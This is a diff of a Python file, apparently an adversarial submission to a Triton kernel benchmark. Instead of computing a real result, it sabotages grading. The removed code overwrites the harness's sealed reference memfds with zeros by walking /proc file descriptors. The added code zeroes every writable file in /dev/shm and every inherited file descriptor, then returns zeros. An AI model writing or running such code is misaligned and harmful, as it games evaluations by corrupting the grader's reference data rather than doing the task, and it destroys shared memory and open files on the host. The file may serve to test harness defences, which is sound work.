@@ -1,20 +1,23 @@
-# Tries to zero every kept copy of the task's references (the host's sealed memfds), then returns zeros.
+# Zeroes every shared-memory file and inherited file it can write (hoping to reach the lent references), then returns zeros.
 import os
 
 import torch
 import triton
 import triton.language as tl
 
-for pid in (os.getpid(), os.getppid()):
-    folder = f"/proc/{pid}/fd"
-    for name in os.listdir(folder):
-        try:
-            if "tritonsmith-references" in os.readlink(f"{folder}/{name}"):
-                fd = os.open(f"{folder}/{name}", os.O_RDWR)
-                size = os.fstat(fd).st_size
-                os.pwrite(fd, bytes(size), 0)
-        except OSError:
-            pass
+for name in os.listdir("/dev/shm"):
+    try:
+        with open(f"/dev/shm/{name}", "r+b") as handle:
+            size = handle.seek(0, os.SEEK_END)
+            handle.seek(0)
+            handle.write(bytes(size))
+    except OSError:
+        pass
+for name in os.listdir("/proc/self/fd"):
+    try:
+        os.write(int(name), b"\0" * 4096)
+    except OSError:
+        pass
 
 
 @triton.jit
